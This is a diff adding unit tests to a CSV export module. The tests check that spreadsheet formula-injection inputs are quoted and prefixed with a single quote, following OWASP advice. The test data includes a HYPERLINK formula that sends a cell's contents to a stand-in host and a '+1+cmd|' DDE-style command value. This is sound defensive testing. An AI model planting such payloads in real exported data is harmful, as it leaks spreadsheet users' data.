@@ -30,6 +30,24 @@ describe('toCsv (RFC 4180)', () => {
     expect(csv([{ user, seconds: 1 }])).toBe(`user,seconds\r\n${field},1\r\n`);
   });
 
+  // OWASP's advice against formula injection: a field a spreadsheet would run as a formula is
+  // quoted, and a single quote put before it, so that it is read as text.
+  it.each([
+    ['=HYPERLINK("http://x.test/?"&A1,"x")', `"'=HYPERLINK(""http://x.test/?""&A1,""x"")"`],
+    ['+1+cmd|', `"'+1+cmd|"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(1+1)', `"'@SUM(1+1)"`],
+    ['\tcmd', `"'\tcmd"`],
+    ['\rcmd', `"'\rcmd"`],
+    ['a=b', 'a=b'],
+  ])('neutralises %j as %j', (user, field) => {
+    expect(csv([{ user, seconds: 1 }])).toBe(`user,seconds\r\n${field},1\r\n`);
+  });
+
+  it('leaves numbers as numbers, negative ones included', () => {
+    expect(csv([{ user: 'ann', seconds: -1.5 }])).toBe('user,seconds\r\nann,-1.5\r\n');
+  });
+
   it('writes null and undefined as empty fields', () => {
     expect(
       csv([
